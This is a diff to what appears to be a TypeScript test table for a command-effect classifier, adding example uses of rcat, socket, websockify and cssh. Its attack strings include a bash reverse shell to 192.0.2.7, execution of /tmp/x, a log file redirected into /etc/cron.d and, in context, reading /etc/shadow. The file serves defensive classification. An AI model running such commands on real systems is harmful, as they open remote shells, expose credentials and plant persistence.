@@ -239,4 +239,16 @@ export const remoteAccess1: ExampleTable = {
     use: 'redsocks -c redsocks.conf → read redsocks.conf',
     attack: 'redsocks -c /etc/shadow → read /etc/shadow',
   },
+  'rcat connect': { attack: 'rcat connect -s bash 192.0.2.7 443 → run bash' },
+  'rcat listen': { attack: 'rcat listen -e /tmp/x 4444 → run /tmp/x' },
+  socket: {
+    use: 'socket db.example.org 80 → send db.example.org',
+    attack: 'socket -p /tmp/x 192.0.2.7 443 → run /tmp/x; send 192.0.2.7',
+  },
+  websockify: {
+    use: 'websockify 6080 localhost:5900 → listen; send localhost:5900',
+    attack:
+      'websockify --log-file=/etc/cron.d/job 6080 localhost:5900 → listen; write /etc/cron.d/job',
+  },
+  cssh: { use: 'cssh web1 web2 → send web1; send web2' },
 }
